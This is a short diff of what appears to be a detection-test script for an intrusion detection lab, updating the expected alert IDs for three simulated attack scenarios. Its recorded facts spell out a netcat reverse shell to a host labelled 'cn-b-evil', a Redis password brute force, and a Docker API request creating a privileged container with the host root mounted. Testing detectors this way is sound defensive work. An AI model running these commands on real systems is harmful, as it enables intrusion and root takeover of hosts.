@@ -135,7 +135,7 @@ sc_reverse_shell() {
   ],
   "facts": {"listener": "nc -l 10.244.2.5 4444 (cn-b-evil)", "shell": "sh -i piped to nc -N 10.244.2.5 4444 (cn-a-web)",
             "commands_sent": ["id", "uname -a", "exit"], "output_contains": "uid=0(root) gid=0(root)"},
-  "alerts": [{"sid": 9100201, "count": 1}]
+  "alerts": [{"sid": 9100201, "count": 1}, {"sid": 9100206, "count": 1}, {"sid": 9100207, "count": 1}]
 }
 JSON
 }
@@ -191,7 +191,7 @@ sc_redis_bruteforce() {
   ],
   "facts": {"connections": 7, "failed_auth": 11, "failed_auth_reply": "-WRONGPASS invalid username-password pair or user is disabled.",
             "successful_auth": 1, "after_success": "CONFIG GET dir", "password": "$REDIS_PASS"},
-  "alerts": [{"sid": 9100501, "count": 1}]
+  "alerts": [{"sid": 9100501, "count": 1}, {"sid": 9100509, "count": 1}]
 }
 JSON
 }
@@ -218,7 +218,7 @@ sc_docker_api() {
   ],
   "facts": {"requests": ["GET /_ping", "POST /v1.41/containers/create", "POST /v1.41/containers/4f1c0ffee0dd/start"],
             "create_status": 201, "start_status": 204, "body_has": ["\"Privileged\":true", "\"Binds\":[\"/:/host\"]"]},
-  "alerts": [{"sid": 9100101, "count": 1}]
+  "alerts": [{"sid": 9100101, "count": 1}, {"sid": 9100102, "count": 1}, {"sid": 9100104, "count": 1}, {"sid": 9100109, "count": 1}]
 }
 JSON
 }
